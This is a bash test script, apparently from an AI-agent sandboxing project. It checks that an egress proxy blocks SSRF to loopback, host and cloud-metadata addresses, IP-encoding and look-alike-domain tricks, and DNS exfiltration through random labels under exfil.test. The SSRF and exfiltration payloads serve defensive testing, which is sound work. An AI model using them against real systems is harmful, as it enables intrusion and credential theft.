#!/usr/bin/env bash
# threats.md §7.2 rows 19 (SSRF through the proxy), 20 (IP-literal and encoding tricks) and 27
# (DNS exfiltration through the proxy), against two bottled agents run by `bottle run -d`:
#   p: allowlist ["example.test"] (the runtime default of this test config)
#   q: profile "ssrf" adds "*.internal.test", whose names the test resolver points at the
#      sidecar, the host, the uplink gateway, loopback and a fake IMDS: here the proxy's SSRF
#      layer, not the allowlist, has to say no.
# Canaries (busybox httpd) sit on the "host" (BT_HOST, a private netns): on its loopback, its
# own addresses and a fake 169.254.169.254 bound to its lo; a request that reaches one prints
# its text. The sidecar resolves through a second counting DNS server on the test internet.
source "$(dirname "$0")/threats.lib.sh"
threats_setup proxy

I=$INTERNET_IP
base=${INTERNET_NET%/*}
base=${base##*.}
DNS2=198.51.100.$((base + 3))
DNS2_COUNT=$BT/dns2-queries
: >"$DNS2_COUNT"
LINK_SIDECAR=10.231.0.1 # the sidecar end of the default link pool's /30
internet_ns_exec ip addr add "$DNS2/29" dev eth0
t_bg nsenter --net="/run/netns/$INTERNET_NS" "$BUILD/tests/testdns" "$DNS2:53" "$DNS2_COUNT" \
  example.test="$I" www.internal.test="$I" loop.internal.test=127.0.0.1 \
  side.internal.test=$LINK_SIDECAR gw.internal.test=10.232.0.1 \
  hostinet.internal.test="$INTERNET_HOST_IP" hostup.internal.test=192.0.2.1 \
  imds.internal.test=169.254.169.254 zero.internal.test=0.0.0.0 cgnat.internal.test=100.100.100.200
for i in $(seq 100); do
  internet_ns_exec ss -Hlun | grep -qF "$DNS2:53" && break
  sleep 0.05
done
bottled_config "$BT/proxy.json" "
c['network']['dns'] = ['$DNS2']
c['bottles']['ssrf'] = {'egress': {'allowlist': ['*.internal.test']}}
c['trust'] = {'annotations': {'profiles': ['ssrf']}}"
BT_CONFIG_FILE=$BT/proxy.json

t_canary 127.0.0.1 9090 canary-host-loopback || exit 1
t_canary 192.0.2.1 8080 canary-host-address || exit 1
t_canary "$INTERNET_HOST_IP" 8080 canary-host-internet-address || exit 1
t_canary 169.254.169.254 80 canary-imds || exit 1

threats_agent p || { fail "bottle run -d p"; finish; exit; }
threats_agent q 'c["annotations"] = {"bottle.profile": "ssrf"}' ||
  { fail "bottle run -d q"; finish; exit; }
S=$(t_sidecar_ip p)
check_eq "the link pool's sidecar address is the one the resolver knows" "$LINK_SIDECAR" "$S"
GW=$(t_uplink_gw p)
US=$(t_uplink_sidecar_ip p)

get() { # AGENT URL [HOST] -> the proxy's answer to an absolute-URI GET
  t_proxy_raw "$1" "GET $2 HTTP/1.1\r\nHost: ${3:-x}\r\nConnection: close\r\n\r\n"
}
connect() { # AGENT HOST:PORT -> the proxy's answer to CONNECT
  t_proxy_raw "$1" "CONNECT $2 HTTP/1.1\r\nHost: $2\r\n\r\n"
}
blocked() { # WHAT ANSWER: 403 from the proxy and no canary text
  local what=$1 ans=$2
  if [ "$(t_status "$ans")" = 403 ] && [[ $ans == *blocked* ]] && [[ $ans != *canary* ]]; then
    ok "$what -> 403"
  else
    local reached=""
    [[ $ans == *canary* ]] && reached=" [reached $(grep -o 'canary-[a-z-]*' <<<"$ans")]"
    fail "$what: expected the proxy's 403$reached, got: $(printf '%s' "$ans" | tr '\r\n' '  ' | cut -c1-120)"
  fi
}
refused() { # WHAT ANSWER: 400 or 403 from the proxy, never a canary or the upstream
  local what=$1 ans=$2 st
  st=$(t_status "$ans")
  if { [ "$st" = 403 ] || [ "$st" = 400 ]; } && [[ $ans != *canary* && $ans != *"test internet"* ]]; then
    ok "$what -> $st"
  else
    fail "$what: expected 400/403, got: $(printf '%s' "$ans" | tr '\r\n' '  ' | cut -c1-200)"
  fi
}
unreached() { # WHAT ANSWER: the proxy's 403, or its 502 because the host refused the dial
  local what=$1 ans=$2 st
  st=$(t_status "$ans")
  if { [ "$st" = 403 ] || [ "$st" = 502 ]; } && [[ $ans != *canary* ]]; then
    ok "$what -> $st, not reached"
  else
    fail "$what: expected 403 or 502 and no canary, got: $(printf '%s' "$ans" | tr '\r\n' '  ' | cut -c1-120)"
  fi
}
allowed() { # WHAT ANSWER: 200 with the test internet's page
  if [ "$(t_status "$2")" = 200 ] && [[ $2 == *"hello from the test internet"* ]]; then
    ok "$1 -> 200"
  else
    fail "$1: expected 200 from the test internet, got: $(printf '%s' "$2" | tr '\r\n' '  ' | cut -c1-200)"
  fi
}

allowed "control: GET http://example.test/" "$(get p http://example.test/ example.test)"
allowed "control: q GET http://www.internal.test/ (allowlisted, public-like address)" \
  "$(get q http://www.internal.test/ www.internal.test)"
q0=$(wc -l <"$DNS2_COUNT")
i0=$(internet_dns_count)

# --- row 19: SSRF into the sidecar and the host, as IP literals (allowlist says no first)
for target in 127.0.0.1:9090 localhost:9090 "[::1]:9090" 0.0.0.0:8888 "$S:8888" "$S:9090" \
  "$GW:80" "$GW:22" "$US:8888" 192.0.2.1:8080 "$INTERNET_HOST_IP:8080" 169.254.169.254:80 \
  100.100.100.200:80 "[fd00:ec2::254]:80" host.docker.internal:80; do
  blocked "row 19: p CONNECT $target" "$(connect p "$target")"
  blocked "row 19: p GET http://$target/" "$(get p "http://$target/" "$target")"
done
blocked "row 19: p IMDSv2 PUT http://169.254.169.254/latest/api/token" \
  "$(t_proxy_raw p 'PUT http://169.254.169.254/latest/api/token HTTP/1.1\r\nHost: 169.254.169.254\r\nX-aws-ec2-metadata-token-ttl-seconds: 60\r\nContent-Length: 0\r\n\r\n')"

# --- row 19 through an allowlisted wildcard: the SSRF layer must refuse internal targets.
for name in loop side gw imds zero cgnat; do
  case $name in
    loop) port=9090 ;; imds) port=80 ;; side) port=8888 ;; *) port=8080 ;;
  esac
  blocked "row 19: q GET http://$name.internal.test:$port/ (allowlisted name, internal address)" \
    "$(get q "http://$name.internal.test:$port/" "$name.internal.test")"
  blocked "row 19: q CONNECT $name.internal.test:$port" "$(connect q "$name.internal.test:$port")"
done
# The host's own addresses (hostup = its upstream address, hostinet = its address on the test
# internet link) are outside pipelock's default ranges, and config/ never emits `internal`
# (issue 3). The kernel holds instead: the host rejects anything the sidecar's uplink sends
# to the host itself (netns/firewall.c), so pipelock's dial fails (502) and nothing is reached.
for name in hostup hostinet; do
  unreached "row 19: q GET http://$name.internal.test:8080/ (allowlisted name, host address)" \
    "$(get q "http://$name.internal.test:8080/" "$name.internal.test")"
  unreached "row 19: q CONNECT $name.internal.test:8080" "$(connect q "$name.internal.test:8080")"
done

# --- row 20: encodings of loopback, and look-alikes of the allowlisted name
for url in http://2130706433:9090/ http://0x7f.1:9090/ http://0177.0.0.1:9090/ http://127.1:9090/ \
  http://0x7f000001:9090/ "http://[::ffff:7f00:1]:9090/" "http://[::ffff:127.0.0.1]:9090/" \
  http://example.test.evil.test/ http://evilexample.test/ http://example.testevil/ \
  http://xn--exmple-cua.test/; do
  blocked "row 20: p GET $url" "$(get p "$url")"
done
for target in 2130706433:9090 0x7f.1:9090 "[::ffff:7f00:1]:9090" "[::1]:9090" example.test.evil.test:443 \
  evilexample.test:443; do
  blocked "row 20: p CONNECT $target" "$(connect p "$target")"
done
refused "row 20: p GET http://example.test@evil.test/ (userinfo)" \
  "$(get p http://example.test@evil.test/ evil.test)"
refused "row 20: p CONNECT example.test@evil.test:443 (userinfo)" \
  "$(connect p example.test@evil.test:443)"
allowed "row 20: p GET http://example.test./ (trailing dot) allowed" \
  "$(get p http://example.test./ example.test.)"
allowed "row 20: p GET http://EXAMPLE.TEST/ (mixed case) allowed" \
  "$(get p http://EXAMPLE.TEST/ EXAMPLE.TEST)"
allowed "row 20: p GET http://ExAmPlE.tEsT./ allowed" "$(get p http://ExAmPlE.tEsT./ ExAmPlE.tEsT.)"
ans=$(t_proxy_raw p 'CONNECT EXAMPLE.TEST.:80 HTTP/1.1\r\nHost: EXAMPLE.TEST.:80\r\n\r\nGET / HTTP/1.0\r\nHost: example.test\r\n\r\n')
check_contains "row 20: p CONNECT EXAMPLE.TEST.:80 tunnels to the allowlisted host" \
  "hello from the test internet" "$ans"

# --- row 27: DNS exfiltration through the proxy (not allowlisted: no query at all)
secret=$(head -c 10 /dev/urandom | base32 | tr -d '=' | tr 'A-Z' 'a-z')
blocked "row 27: p CONNECT $secret.exfil.test:443" "$(connect p "$secret.exfil.test:443")"
blocked "row 27: p GET http://$secret.exfil.test/" "$(get p "http://$secret.exfil.test/")"
blocked "row 27: q CONNECT $secret.exfil.test:443" "$(connect q "$secret.exfil.test:443")"
blocked "row 27: q GET http://$secret.exfil.test/" "$(get q "http://$secret.exfil.test/")"
sleep 0.2
check_eq "row 27: the secret never reached the sidecar's resolver" "" "$(grep -i "$secret" "$DNS2_COUNT")"
check_eq "row 27: nor the original test resolver" "" "$(grep -i "$secret" "$INTERNET_DNS_COUNT")"
check_eq "row 27/19/20: blocked names made no query at the original resolver" "$i0" "$(internet_dns_count)"
new=$(tail -n +$((q0 + 1)) "$DNS2_COUNT" | grep -vE '(internal\.test|^example\.test)$' | sort -u | tr '\n' ' ')
check_eq "row 19/20/27: no query but for allowlisted names (example.test, *.internal.test)" \
  "" "$new"
# A high-entropy label under the allowlisted wildcard: pipelock's subdomain-entropy check
# (threshold 4.0) runs before DNS, so a long random label must not be resolved either.
long=$(head -c 40 /dev/urandom | base32 | tr -d '=' | tr 'A-Z' 'a-z' | cut -c1-60)
blocked "row 27: q GET http://$long.internal.test/ (entropy)" "$(get q "http://$long.internal.test/")"
sleep 0.2
check_eq "row 27: the high-entropy label was not resolved" "" "$(grep -i "$long" "$DNS2_COUNT")"

# Nothing reached a canary: each serves its text to whoever asks, so ask them from the host
# to prove they were up (a dead canary would make every "no canary text" check vacuous).
for c in "127.0.0.1:9090 canary-host-loopback" "192.0.2.1:8080 canary-host-address" \
  "$INTERNET_HOST_IP:8080 canary-host-internet-address" "169.254.169.254:80 canary-imds"; do
  set -- $c
  check_eq "canary $1 was up" "$2" "$(bt_host busybox wget -q -O- "http://$1/" 2>&1)"
done
finish
